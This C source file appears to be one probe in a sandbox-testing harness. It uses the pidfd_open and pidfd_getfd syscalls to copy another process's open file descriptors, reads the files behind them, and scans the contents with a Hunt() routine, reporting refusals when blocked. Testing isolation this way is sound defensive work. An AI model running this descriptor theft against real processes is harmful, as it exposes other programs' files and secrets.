// Takes copies of another process's open descriptors and reads the files behind them.
// By number, since the C library may not know these calls yet. pidfd_getfd(2)
#include "attack.h"

#include <errno.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434  // Linux 5.3
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438  // Linux 5.6
#endif

static void PidfdGetfd(pid_t target, char** arguments) {
  (void)arguments;
  const int pidfd = (int)syscall(SYS_pidfd_open, target, 0);
  if (pidfd < 0) {
    Refused("pidfd_open");
    return;
  }
  for (int number = 0; number < 256; number++) {
    static char bytes[1 << 16];
    const int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (stolen < 0) {
      if (errno == EBADF) continue;
      Refused("pidfd_getfd");
      break;
    }
    const ssize_t got = pread(stolen, bytes, sizeof bytes, 0);
    if (got > 0) Hunt(bytes, (size_t)got);
    close(stolen);
  }
  close(pidfd);
}

ATTACK("pidfd-getfd", PidfdGetfd)
